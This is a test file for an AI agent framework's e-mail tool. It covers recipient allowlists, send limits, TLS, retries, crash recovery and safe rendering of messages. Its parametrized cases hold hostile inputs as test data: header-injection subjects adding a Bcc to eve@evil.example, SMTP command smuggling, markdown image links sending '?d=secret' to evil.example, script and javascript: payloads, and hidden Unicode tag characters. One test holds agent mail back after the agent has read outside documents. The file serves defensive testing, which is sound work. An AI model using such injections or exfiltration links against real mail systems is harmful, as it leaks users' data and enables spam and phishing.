"""E-mail: to those that the agent's file allows, once, or known to be uncertain."""

import asyncio
import json
import signal
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, datetime
from email.utils import parsedate_to_datetime
from pathlib import Path
from typing import Any

import pytest
from mortal import Order, bear, start_child
from postbox import PASSWORD, Postbox, open_postbox
from processes import lamplighter
from servers import Answer, Request, web_server

from lamplighter.config import EmailAccount
from lamplighter.errors import InvalidSettings, ToolFailed, TryAgain
from lamplighter.mail import sending, smtp
from lamplighter.mail.message import Mail, compose
from lamplighter.store.notices import list_notices
from lamplighter.store.outbox import Entry, list_entries
from lamplighter.store.runs import Run, get_run, list_runs
from lamplighter.testing import Workspace, call, temporary_workspace, turn
from lamplighter.workspace import load_settings

AGENT = """---
type: org
actions: [write_file, deliver_file, send_email]
email: {to: [ann@x.org, y.org]%s}
---
Write to Ann.
"""
READING = """---
type: org
actions: [read_document, send_email, write_file, read_file]
sources: [notes]
email: {to: [ann@x.org]}
---
The handbook is https://x.org/handbook.
"""
REPORT = turn(call("report", summary="Done."))
AT = datetime(2026, 11, 20, 9, tzinfo=UTC)


@pytest.fixture(autouse=True)
def _at_once(monkeypatch: pytest.MonkeyPatch) -> None:
    """A second attempt comes at once."""
    monkeypatch.setattr(sending.send, "__defaults__", ((0.0, 0.0),))


@contextmanager
def with_account(account: dict[str, Any] | None, head: str = "") -> Iterator[Workspace]:
    files = {"agents/post.md": AGENT % head}
    with temporary_workspace(files, email=account) as workspace:
        yield workspace


@pytest.fixture
def workspace(box: Postbox) -> Iterator[Workspace]:
    with with_account(box.account()) as made:
        yield made


def send(
    to: str = "ann@x.org", subject: str = "Hello", body: str = "All is *well*.", **more: Any
) -> dict[str, Any]:
    return turn(call("send_email", to=to, subject=subject, body=body, **more))


def only(workspace: Workspace) -> Entry:
    [entry] = [each for each in list_entries(workspace.engine) if each.kind == "email"]
    return entry


def told(workspace: Workspace, run: Run) -> str:
    """What the model was told of its last call."""
    data = [each.data for each in workspace.events(run) if each.kind == "tool_result"][-1]
    return str(data.get("error") or data["result"])


# --- What arrives ---


def test_an_email_arrives_once_as_text_and_as_a_page(workspace: Workspace, box: Postbox) -> None:
    run = workspace.run("post", [send("Ann@X.org, bo@y.org"), REPORT])
    assert (run.outcome, told(workspace, run)) == ("reported", "Sent to Ann@x.org, bo@y.org")
    [message] = box.messages
    assert (message["From"], message["To"]) == ("Lamp <lamp@x.org>", "Ann@x.org, bo@y.org")
    assert (message["Subject"], message["Auto-Submitted"]) == ("Hello", "auto-generated")
    text, page = message.iter_parts()
    assert text.get_content() == "All is *well*.\n"
    assert page.get_content() == "<p>All is <em>well</em>.</p>\n"
    entry = only(workspace)
    assert (entry.state, entry.agent, entry.receipt) == (
        "sent",
        "post",
        {
            "message_id": message["Message-ID"],
            "to": ["Ann@x.org", "bo@y.org"],
            "reply": "250 queued as 7",
        },
    )
    assert parsedate_to_datetime(message["Date"]) == entry.created_at.replace(microsecond=0)


def test_what_the_run_has_delivered_can_go_along_and_nothing_else(
    workspace: Workspace, box: Postbox
) -> None:
    write = turn(call("write_file", path="über/table.csv", content="a,b\n1,2\n"))
    deliver = turn(call("deliver_file", path="über/table.csv"))
    turns = [
        write,
        send(attachments=["über/table.csv"]),
        {**deliver, "expect": ["none of this run's deliveries"]},
        send(attachments=["über/table.csv", "../../.env"]),
        {**send(attachments=["über/table.csv"]), "expect": ["none of this run's deliveries"]},
        REPORT,
    ]
    assert workspace.run("post", turns).outcome == "reported"
    [message] = box.messages
    [attached] = message.iter_attachments()
    assert (attached.get_filename(), attached.get_content_type()) == ("table.csv", "text/csv")
    assert attached.get_content() == "a,b\n1,2\n"


@pytest.mark.parametrize(
    "subject",
    [
        "Hi\r\nBcc: eve@evil.example",
        "Hi\nBcc: eve@evil.example",
        "Hi\rBcc: eve@evil.example",
        "Hi\x85Bcc: eve@evil.example",
        "Hi\u2028Bcc: eve@evil.example\x00",
        "Hi\x0b\x1cBcc: eve@evil.example",
    ],
)
def test_no_subject_becomes_another_header(
    workspace: Workspace, box: Postbox, subject: str
) -> None:
    body = f"{subject}\n.\r\nMAIL FROM:<eve@evil.example>\r\n.\n..\n"
    workspace.run("post", [send(subject=subject, body=body), REPORT])
    [message] = box.messages
    assert message["Bcc"] is None
    assert message["To"] == "ann@x.org"
    assert message["Subject"].startswith("Hi")
    assert "MAIL FROM:<eve@evil.example>" in next(message.iter_parts()).get_content()
    assert box.seen == {"rcpt": 1, "data": 1}


def test_letters_of_the_world_arrive_as_they_are(workspace: Workspace, box: Postbox) -> None:
    subject = "Grüße 🏮 " + "漢字" * 60
    workspace.run("post", [send(subject=subject, body="Schöne Grüße 🏮"), REPORT])
    [message] = box.messages
    assert message["Subject"] == subject
    assert next(message.iter_parts()).get_content().strip() == "Schöne Grüße 🏮"
    assert all(line.isascii() and len(line) < 999 for line in box.taken[0].split(b"\r\n"))


# --- To whom, and how often ---


@pytest.mark.parametrize(
    ("to", "why"),
    [
        ("eve@evil.example", "may not write to eve@evil.example"),
        ("ann@x.org, eve@evil.example", "may not write to eve@evil.example"),
        ("ann@sub.y.org", "may not write"),
        ("ann@х.org", "may not write to ann@xn--"),  # noqa: RUF001 - a Cyrillic letter
        ("ann@x.org@evil.example", "no e-mail address"),
        ("ann@x.org\r\nRCPT TO:<eve@evil.example>", "no"),
        ("<ann@x.org>", "no e-mail address"),
        ("", "no e-mail address"),
        (", ".join(f"a{number}@y.org" for number in range(51)), "at most 50"),
    ],
)
def test_nobody_else_is_written_to(workspace: Workspace, box: Postbox, to: str, why: str) -> None:
    run = workspace.run("post", [send(to), REPORT])
    assert why in told(workspace, run)
    assert (box.seen, list_entries(workspace.engine)) == ({}, [])


def test_without_recipients_or_an_account_nothing_is_sent(box: Postbox) -> None:
    with with_account(box.account()) as workspace:
        workspace.write("agents/post.md", AGENT.replace("email: {to: [ann@x.org, y.org]%s}\n", ""))
        assert "write to nobody" in told(workspace, workspace.run("post", [send(), REPORT]))
    with with_account(None) as workspace:
        run = workspace.run("post", [send(), REPORT])
        assert "no [email]" in told(workspace, run)
    assert box.seen == {}


def test_a_user_agent_has_no_such_tool(workspace: Workspace, box: Postbox) -> None:
    workspace.write("agents/post.md", "---\ntools: [send_email]\nemail: {to: [x.org]}\n---\nGo.")
    run = workspace.run("post", [send(), REPORT])
    assert run.outcome == "error"
    assert "Unknown tool" in told(workspace, run)
    assert box.seen == {}


def test_a_run_and_a_day_have_so_many(box: Postbox) -> None:
    with with_account(box.account(), ", per_run: 2, per_day: 3") as workspace:
        three = turn(*(call("send_email", to="ann@x.org", subject=s, body="x") for s in "abc"))
        first = workspace.run("post", [three, REPORT])
        assert "this run has had all the 2" in told(workspace, first)
        second = workspace.run("post", [three, REPORT])
        assert "post has had all the 3 of a day" in told(workspace, second)
    assert len(box.taken) == 3


# --- The way there ---


def mail() -> Mail:
    return Mail(id="1a", at=AT, sender="lamp@x.org", to=["ann@x.org"], subject="Hi", body="Hi\n")


def give(account: dict[str, Any]) -> dict[str, Any]:
    return asyncio.run(sending.send(EmailAccount(**account), mail(), lambda _: b""))


def test_starttls_is_used_and_required(tmp_path: Path) -> None:
    with open_postbox(tmp_path, "starttls") as box:
        give(box.account(security="starttls"))
        assert len(box.taken) == 1
    with open_postbox(tmp_path, "none") as box:
        with pytest.raises(ToolFailed, match="STARTTLS"):
            give(box.account(security="starttls"))
        assert box.seen == {}
        plain = box.account(security="none", username=None, password=None)
        give(plain)
        assert len(box.taken) == 1


@pytest.mark.parametrize("security", ["tls", "starttls"])
def test_a_server_without_the_right_certificate_gets_nothing(tmp_path: Path, security: str) -> None:
    with open_postbox(tmp_path, security) as box:
        with pytest.raises(ToolFailed, match="certificate"):
            give(box.account(security=security, ca_file=None))
        with pytest.raises(ToolFailed, match=r"certificate|mismatch"):
            give(box.account(security=security, host="localhost"))
        assert box.seen == {}


def test_a_wrong_password_fails_and_is_not_told(box: Postbox) -> None:
    with pytest.raises(ToolFailed, match="535") as caught:
        give(box.account(password="a wrong password"))
    assert "a wrong password" not in str(caught.value)


def test_a_server_that_is_not_there_is_a_failure(box: Postbox) -> None:
    with pytest.raises(ToolFailed, match="no e-mail by") as caught:
        give(box.account(port=9))
    assert type(caught.value) is ToolFailed


def test_what_may_pass_is_tried_again_but_not_for_ever(box: Postbox) -> None:
    box.replies["rcpt"] = ["451 later", "421 later"]
    give(box.account())
    assert (len(box.taken), box.seen["rcpt"]) == (1, 3)
    box.replies["rcpt"] = ["451 later"] * 9
    with pytest.raises(TryAgain, match="451 later"):
        give(box.account())
    assert (len(box.taken), box.seen["rcpt"]) == (1, 6)


def test_what_is_refused_is_failed_and_not_tried_again(workspace: Workspace, box: Postbox) -> None:
    box.replies["rcpt"] = ["550 no such user"]
    box.replies["data"] = ["554 spam"]
    run = workspace.run("post", [send(), send(), REPORT])
    assert run.outcome == "error"
    states = [(each.state, each.error) for each in list_entries(workspace.engine)]
    assert [state for state, _ in states] == ["failed", "failed"]
    assert [error for _, error in states if "550" in (error or "")] != []
    assert box.taken == []
    assert box.seen == {"rcpt": 2, "data": 1}


def test_of_several_receivers_all_get_it_or_none(workspace: Workspace, box: Postbox) -> None:
    box.replies["rcpt"] = ["250 OK", "550 no such user"]
    workspace.run("post", [send("ann@x.org, bo@y.org"), REPORT])
    assert (only(workspace).state, box.taken) == ("failed", [])


def test_a_connection_that_ends_before_the_answer_leaves_it_uncertain(
    workspace: Workspace, box: Postbox
) -> None:
    box.replies["data"] = ["lost"]
    run = workspace.run("post", [send(), REPORT])
    assert "It is uncertain" in told(workspace, run)
    assert (only(workspace).state, len(box.taken)) == ("uncertain", 1)
    assert [notice.kind for notice in list_notices(workspace.engine)] == ["uncertain"]


def test_the_account_can_be_tried_without_sending(box: Postbox) -> None:
    asyncio.run(smtp.try_out(EmailAccount(**box.account())))
    assert box.seen == {}


# --- Killed at each point ---


def settings_of(box: Postbox, **more: Any) -> str:
    account = {key: value for key, value in box.account(**more).items() if value is not None}
    return "[email]\n" + "".join(f"{key} = {json.dumps(value)}\n" for key, value in account.items())


@pytest.fixture
def killed(box: Postbox) -> Iterator[Workspace]:
    """A workspace whose processes read their account from its file."""
    with temporary_workspace({"agents/post.md": AGENT % ""}) as made:
        made.write("lamplighter.toml", settings_of(box))
        yield made


def kill_when_reached(workspace: Workspace, box: Postbox, where: str) -> None:
    """Begin a run, and kill its process when the server has got so far."""
    box.stops_at = where
    model = workspace.script([send(), REPORT])
    process = start_child(Order(str(workspace.path), ("post",), model))
    assert box.reached.wait(60)
    process.kill()
    assert process.wait(60) == -signal.SIGKILL
    box.stops_at = ""
    box.released.set()


def go_on(workspace: Workspace) -> Run:
    assert bear(Order(str(workspace.path))) == 0
    [run] = list_runs(workspace.engine)
    return get_run(workspace.engine, run.id)


@pytest.mark.parametrize(("where", "taken"), [("rcpt", 0), ("data", 1)])
def test_killed_with_the_server_waiting_it_is_uncertain_and_not_repeated(
    killed: Workspace, box: Postbox, where: str, taken: int
) -> None:
    kill_when_reached(killed, box, where)
    run = go_on(killed)
    assert (run.outcome, only(killed).state) == ("reported", "uncertain")
    assert "not repeated" in told(killed, run)
    assert len(box.taken) == taken
    assert box.seen["rcpt"] == 1
    assert [notice.kind for notice in list_notices(killed.engine)] == ["uncertain"]


@pytest.mark.parametrize(
    ("moment", "state", "taken"),
    [
        ("before the intent", "sent", 1),
        ("before the act", "uncertain", 0),
        ("before the receipt", "uncertain", 1),
        ("before the checkpoint", "sent", 1),
    ],
)
def test_killed_around_the_act_it_comes_once_or_is_uncertain(
    killed: Workspace, box: Postbox, moment: str, state: str, taken: int
) -> None:
    model = killed.script([send(), REPORT])
    order = Order(str(killed.path), ("post",), model, (moment, 1))
    assert bear(order) == -signal.SIGKILL
    assert (go_on(killed).outcome, only(killed).state) == ("reported", state)
    assert len(box.taken) == taken


def test_killed_between_reading_and_writing_it_remembers_what_it_has_read(box: Postbox) -> None:
    agent = READING.replace("[ann@x.org]", "[x.org]")
    with temporary_workspace({"agents/post.md": agent, "notes/a.md": "Hello."}) as made:
        made.write("lamplighter.toml", f'{settings_of(box)}\n[sources.notes]\npath = "notes"\n')
        assert lamplighter(made, "source", "sync").returncode == 0
        reading = turn(call("read_document", id="notes:a.md"))
        order = Order(
            str(made.path),
            ("post",),
            made.script([reading, send(), REPORT]),
            ("before the intent", 1),
        )
        assert bear(order) == -signal.SIGKILL
        assert list_entries(made.engine) == []
        assert go_on(made).outcome == "reported"
        assert (only(made).state, box.taken) == ("held", [])
        assert "has read what others wrote (notes:a.md)" in only(made).reason


# --- By a provider ---


class Provider:
    """Resend's API, as its public description has it: what has a known key is not sent again."""

    def __init__(self) -> None:
        self.sent: dict[str, dict[str, Any]] = {}
        self.errors: list[Answer] = []
        self.asked = 0

    def answer(self, request: Request) -> Answer:
        self.asked += 1
        assert (request.method, request.path) == ("POST", "/emails")
        if request.headers["authorization"] != "Bearer re_key":
            return Answer(status=401, json={"name": "missing_api_key", "message": "no key"})
        key = request.headers["idempotency-key"]
        self.sent.setdefault(key, json.loads(request.body))
        if self.errors:
            return self.errors.pop(0)
        return Answer(json={"id": f"id-of-{key}"})


def by_provider(url: str, **more: Any) -> dict[str, Any]:
    return {"from": "l@x.org", "provider": "resend", "api_key": "re_key", "url": url, **more}


def test_a_provider_gets_the_whole_email_with_its_key() -> None:
    provider = Provider()
    with web_server(provider.answer) as server:
        receipt = give(by_provider(server.url))
    [(key, sent)] = provider.sent.items()
    assert (key, receipt["id"]) == ("1a", "id-of-1a")
    assert sent == {
        "from": "lamp@x.org",
        "to": ["ann@x.org"],
        "subject": "Hi",
        "text": "Hi\n",
        "html": "<p>Hi</p>\n",
        "headers": {"Message-ID": "<1a@x.org>", "Auto-Submitted": "auto-generated"},
        "attachments": [],
    }


@pytest.mark.parametrize(
    ("error", "wanted", "asked"),
    [
        (Answer(status=422, json={"name": "validation_error", "message": "bad"}), "failed", 1),
        (Answer(status=429, json={"name": "rate_limit_exceeded", "message": "slow"}), "sent", 2),
        (Answer(status=500, json={"name": "application_error", "message": "oh"}), "uncertain", 1),
        (Answer(status=502, body="<html>"), "uncertain", 1),
    ],
)
def test_what_a_provider_says_tells_whether_it_has_happened(
    error: Answer, wanted: str, asked: int
) -> None:
    provider = Provider()
    provider.errors = [error]
    with web_server(provider.answer) as server, with_account(by_provider(server.url)) as workspace:
        workspace.run("post", [send(), REPORT])
        assert only(workspace).state == wanted
    assert provider.asked == asked


def test_a_provider_that_cannot_be_reached_is_a_failure() -> None:
    with with_account(by_provider("http://127.0.0.1:9")) as workspace:
        workspace.run("post", [send(), REPORT])
        assert only(workspace).state == "failed"


def test_what_was_killed_is_given_to_a_provider_again_which_sends_it_once() -> None:
    provider = Provider()
    with (
        web_server(provider.answer) as server,
        temporary_workspace({"agents/post.md": AGENT % ""}) as workspace,
    ):
        account = by_provider(server.url)
        lines = [f"{key} = {json.dumps(value)}\n" for key, value in account.items()]
        workspace.write("lamplighter.toml", "[email]\n" + "".join(lines))
        model = workspace.script([send(), REPORT])
        order = Order(str(workspace.path), ("post",), model, ("before the receipt", 1))
        assert bear(order) == -signal.SIGKILL
        assert go_on(workspace).outcome == "reported"
        assert only(workspace).state == "sent"
    assert (len(provider.sent), provider.asked) == (1, 2)


# --- The message itself ---


def test_the_same_email_has_the_same_bytes() -> None:
    assert compose(mail(), lambda _: b"").as_bytes() == compose(mail(), lambda _: b"").as_bytes()


@pytest.mark.parametrize(
    ("body", "page"),
    [
        ("![a lamp](https://evil.example/?d=secret)", "<p>a lamp</p>\n"),
        ("[![x](http://e.example/1)](http://e.example/2)", "(http://e.example/2)"),
        ('<img src="https://evil.example/?d=1"><script>x</script>', "&lt;img src="),
        ("[here](javascript:alert(1))", "<p>[here](javascript:alert(1))</p>\n"),
        ("[bank](https://evil.example/)", "bank</a> (https://evil.example/)</p>"),
        ("<https://x.org/>", ">https://x.org/</a></p>"),
        ("| a |\n|---|\n| b |", "<td>b</td>"),
    ],
)
def test_a_page_loads_nothing_and_shows_where_links_lead(body: str, page: str) -> None:
    html = Mail(id="1", at=AT, sender="a@x.org", to=[], subject="", body=body).html
    assert page in html
    assert "<img" not in html
    assert "<script" not in html


# --- The account's settings ---


@pytest.mark.parametrize(
    ("table", "said"),
    [
        ('host = "x.org"', r"lamplighter\.toml:1 \[email\.from\]: Field required"),
        ('from = "nobody"\nhost = "x.org"', "no e-mail address"),
        ('from = "a@x.org"', "smtp needs a host"),
        ('from = "a@x.org"\nprovider = "resend"', "resend needs an api_key"),
        ('from = "a@x.org"\nhost = "x.org"\nsecurity = "none"\npassword = "p"', "encryption"),
        ('from = "a@x.org"\nhost = "x.org"\nca_file = "ca.pem"', "the whole path"),
    ],
)
def test_an_account_that_cannot_work_is_refused(tmp_path: Path, table: str, said: str) -> None:
    (tmp_path / "lamplighter.toml").write_text(f"[email]\n{table}\n")
    with pytest.raises(InvalidSettings, match=said):
        load_settings(tmp_path)


def test_ports_and_security_follow_from_each_other(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def account(**given: Any) -> tuple[int, str | None]:
        made = EmailAccount(**{"from": "a@x.org", "host": "x.org", **given})
        return made.port, made.security

    assert account() == (465, "tls")
    assert account(port=587) == (587, "starttls")
    assert account(security="starttls") == (587, "starttls")
    assert account(security="none") == (25, "none")
    monkeypatch.setenv("EMAIL", "somebody@x.org")  # which is none of ours
    assert load_settings(tmp_path).email is None
    (tmp_path / "lamplighter.toml").write_text('[email]\nfrom = "a@x.org"\nhost = "toml.org"\n')
    found = load_settings(tmp_path).email
    assert found is not None
    assert found.where == "toml.org:465"
    monkeypatch.setenv("LAMPLIGHTER_EMAIL", '{"from": "a@x.org", "host": "x.org"}')
    found = load_settings(tmp_path).email
    assert found is not None
    assert found.where == "x.org:465"


# --- At the command line ---


def test_the_account_is_tested_by_a_person(killed: Workspace, box: Postbox) -> None:
    done = lamplighter(killed, "email", "test", "ann@x.org")
    assert (done.returncode, len(box.taken)) == (0, 1), done.stderr
    assert "250 queued as 7" in done.stdout
    assert PASSWORD not in done.stdout + done.stderr
    nobody = lamplighter(killed, "email", "test", "nobody")
    assert (nobody.returncode, len(box.taken)) == (2, 1)


# --- Links ---


@pytest.mark.parametrize(
    ("body", "state"),
    [
        ("The [lamp](https://x.org/lamp), and the book: <https://x.org/handbook>.", "sent"),
        ("No address at all, but mailto:eve@evil.example", "sent"),
        ("[x](https://evil.example/?d=7)", "held"),
        ("![x](https://evil.example/?d=7)", "held"),
        ("[x](https&#58;//evil.example/?d=7)", "held"),
        ("[x](//evil.example/?d=7)", "held"),
        ("[x]: https://evil.example/?d=7\n\n[x]", "held"),
        ("https://x.org/lamp?d=7", "held"),
    ],
)
def test_what_an_address_says_was_read_or_waits(box: Postbox, body: str, state: str) -> None:
    files = {"agents/post.md": READING, "notes/a.md": "See https://x.org/lamp"}
    sources = {"notes": {"path": "notes"}}
    with temporary_workspace(files, email=box.account(), sources=sources) as workspace:
        workspace.sync()
        reading = turn(call("read_document", id="notes:a.md"))
        kept = turn(call("write_file", path="a.txt", content=body), call("read_file", path="a.txt"))
        run = workspace.run("post", [reading, kept, send(body=body), REPORT])
        assert (run.outcome, only(workspace).state) == ("reported", state)


def test_what_is_attached_is_saved_and_not_shown_if_it_could_load_something(box: Postbox) -> None:
    names = ("page.html", "drawing.svg", "mail.eml", "table.csv")
    files = [call("write_file", path=name, content="x") for name in names]
    delivered = [call("deliver_file", path=name) for name in names]
    with with_account(box.account()) as workspace:
        workspace.run("post", [turn(*files), turn(*delivered), send(attachments=[*names]), REPORT])
    types = [each.get_content_type() for each in box.messages[0].iter_attachments()]
    assert types == [*["application/octet-stream"] * 3, "text/csv"]


def test_no_character_that_nobody_sees_goes_out(workspace: Workspace, box: Postbox) -> None:
    tagged = "".join(chr(0xE0000 + ord(c)) for c in "SECRET")
    workspace.run("post", [send(subject=f"a{tagged}b", body=f"c\u202ed\u200b{tagged}"), REPORT])
    [message] = box.messages
    text = message.get_body(("plain",))
    assert text is not None
    assert (message["Subject"], text.get_content()) == ("ab", "cd\n")
